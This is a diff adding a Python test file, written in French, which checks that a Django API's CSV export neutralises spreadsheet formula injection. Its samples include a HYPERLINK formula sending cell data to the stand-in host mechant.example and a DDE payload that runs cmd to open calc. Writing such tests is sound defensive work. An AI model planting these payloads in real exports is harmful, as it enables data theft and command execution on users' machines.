@@ -1,0 +1,111 @@
+"""`?format=csv` de l'API : un texte saisi qui commence comme une formule de tableur
+(« =HYPERLINK(…) », « @SUM(…) », « +… », « -… », tabulation, retour chariot) est préfixé d'une
+apostrophe, comme dans les CSV des bilans et l'export des valeurs (evalpic.tableurs); les
+nombres restent intacts."""
+
+from __future__ import annotations
+
+import csv
+import io
+
+import pytest
+
+from evalpic.tableurs import neutraliser_formule
+from tests.api import test_saisies_bilans as base
+from tests.api.test_saisies_bilans import client_de
+
+# Les données des tests de l'API des saisies (A et B remplis pour 2025-T1).
+_fichiers_temporaires = base._fichiers_temporaires
+periode = base.periode
+indicateurs = base.indicateurs
+monde = base.monde
+
+pytestmark = pytest.mark.django_db
+
+API = "/api/v1"
+FORMULE = '=HYPERLINK("http://mechant.example/?x="&A1,"clic")'
+
+
+def _lignes(reponse) -> list[dict]:
+    assert reponse.status_code == 200, reponse.content[:300]
+    assert reponse["Content-Type"].startswith("text/csv")
+    return list(csv.DictReader(io.StringIO(reponse.content.decode("utf-8-sig"))))
+
+
+@pytest.mark.parametrize(
+    "texte,attendu",
+    [
+        ("=1+1", "'=1+1"),
+        ("+1+1", "'+1+1"),
+        ("-1+1", "'-1+1"),
+        ("@SUM(A1)", "'@SUM(A1)"),
+        ("\t=1", "'\t=1"),
+        ("\r=1", "'\r=1"),
+        ("-", "'-"),
+        ("-3.5", "-3.5"),
+        ("+2", "+2"),
+        ("42", "42"),
+        ("Adoptée", "Adoptée"),
+        ("a=1", "a=1"),
+        ("", ""),
+    ],
+)
+def test_neutraliser_formule(texte, attendu):
+    assert neutraliser_formule(texte) == attendu
+
+
+def test_le_rendu_csv_neutralise_chaque_case_de_texte():
+    # rest_framework.views d'abord : ses réglages importent evalpic.api.commun.
+    from rest_framework import views  # noqa: F401
+
+    from evalpic.api.commun import RenduCSV
+
+    donnees = {
+        "results": [
+            {"texte": "=1+1", "nombre": -3, "decimal": "-3.50", "vide": None, "liste": ["=x"]},
+            {"texte": "@A1", "nombre": 2, "decimal": "12", "vide": None, "liste": []},
+        ]
+    }
+    lignes = list(csv.reader(io.StringIO(RenduCSV().render(donnees).decode("utf-8-sig"))))
+    assert lignes == [
+        ["texte", "nombre", "decimal", "vide", "liste"],
+        ["'=1+1", "-3", "-3.50", "", "['=x']"],
+        ["'@A1", "2", "12", "", "[]"],
+    ]
+
+
+def test_apprentissage_en_formule_neutralise_en_csv(monde, alice):
+    client = client_de(alice, "jeton")
+    reponse = client.post(
+        f"{API}/apprentissages/",
+        {"quartier": "quartier-a", "periode": "2025-T1", "categorie": "defis", "texte_fr": FORMULE},
+        format="json",
+    )
+    assert reponse.status_code == 201, reponse.content
+    lignes = _lignes(client.get(f"{API}/apprentissages/", {"format": "csv"}))
+    assert [ligne["texte_fr"] for ligne in lignes] == [f"'{FORMULE}"]
+    # Le JSON garde le texte tel quel : seule la sortie pour tableur est neutralisée.
+    assert client.get(f"{API}/apprentissages/").json()["results"][0]["texte_fr"] == FORMULE
+
+
+def test_valeur_texte_et_commentaire_en_formule_neutralises_en_csv(monde, alice):
+    client = client_de(alice, "jeton")
+    saisie = monde.saisie_a
+    reponse = client.put(
+        f"{API}/saisies/{saisie.pk}/valeurs/",
+        {
+            "valeurs": [
+                {"indicateur": "politique", "valeur": "@SUM(1+1)*cmd|' /C calc'!A0"},
+                {"indicateur": "taux", "valeur": "42,5", "commentaire": "=1+1"},
+            ]
+        },
+        format="json",
+        HTTP_IF_MATCH=f'"{saisie.version}"',
+    )
+    assert reponse.status_code == 200, reponse.content
+    lignes = _lignes(client.get(f"{API}/valeurs/", {"format": "csv", "quartier": "quartier-a"}))
+    par_code = {ligne["indicateur"]: ligne for ligne in lignes}
+    assert par_code["politique"]["valeur_texte"] == "'@SUM(1+1)*cmd|' /C calc'!A0"
+    assert par_code["taux"]["commentaire"] == "'=1+1"
+    assert par_code["taux"]["valeur"] == "42.5"
+    assert par_code["menages"]["valeur"] == "120"
